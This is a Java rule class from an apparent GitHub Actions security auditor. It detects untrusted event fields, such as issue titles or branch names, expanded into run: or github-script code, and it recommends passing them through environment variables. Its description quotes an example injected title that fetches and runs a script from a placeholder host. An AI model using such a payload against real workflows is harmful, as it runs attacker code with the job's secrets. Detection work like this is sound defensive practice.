package dev.tokenwarden.auditor.domain.rules;

import java.util.Optional;

import dev.tokenwarden.auditor.domain.expr.ContextPath;
import dev.tokenwarden.auditor.domain.expr.Template;
import dev.tokenwarden.auditor.domain.finding.Confidence;
import dev.tokenwarden.auditor.domain.finding.Severity;
import dev.tokenwarden.auditor.domain.model.Step;
import dev.tokenwarden.auditor.domain.model.Workflow;
import dev.tokenwarden.auditor.domain.yaml.YamlScalar;

/**
 * An attacker-controllable context (an issue title, a branch name, a commit message, ...) expanded with
 * {@code ${{ }}} into code: a {@code run:} script or an {@code actions/github-script} script.
 */
public final class TemplateInjection implements Rule {

    private static final RuleInfo INFO = new RuleInfo("template-injection",
            "Untrusted input expanded into a script",
            Severity.HIGH, Confidence.HIGH,
            "`${{ }}` is expanded before the shell or JavaScript runs, so a value like an issue title "
                    + "`a\"; curl evil.sh | sh; echo \"` becomes code, running with the job's token and secrets. "
                    + "Titles, bodies, comments, branch names, commit messages and author fields are chosen by "
                    + "whoever opens the issue, pull request or branch. Only expressions whose value reaches the "
                    + "script are reported: `${{ github.head_ref == 'main' }}` yields a boolean and is safe.",
            "Pass the value through an environment variable and quote it in the script: "
                    + "`env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"`.",
            """
            - run: echo "Checking ${{ github.event.pull_request.title }}"
            """,
            """
            - env:
                TITLE: ${{ github.event.pull_request.title }}
              run: echo "Checking $TITLE"
            """);

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(Workflow workflow, RuleContext context) {
        workflow.steps().forEach(s -> {
            s.step().run().ifPresent(run -> check(workflow, run, "`run:` script", context));
            script(s.step()).ifPresent(script -> check(workflow, script, "github-script `script:`", context));
        });
    }

    private static Optional<YamlScalar> script(Step step) {
        boolean githubScript = step.usesRef().map(u -> u.is("actions/github-script")).orElse(false);
        return githubScript ? step.with().flatMap(w -> w.scalar("script")) : Optional.empty();
    }

    private static void check(Workflow workflow, YamlScalar code, String sink, RuleContext context) {
        for (Template template : Template.findAll(code.value())) {
            for (ContextPath source : template.valueSources()) {
                Optional<Confidence> confidence = UntrustedContexts.classify(source);
                if (confidence.isPresent()) {
                    context.report(workflow.source().positionOf(code, template.start()),
                            "`" + source + "` is chosen by outsiders and expanded into a " + sink,
                            INFO.severity(), confidence.get());
                }
            }
        }
    }
}
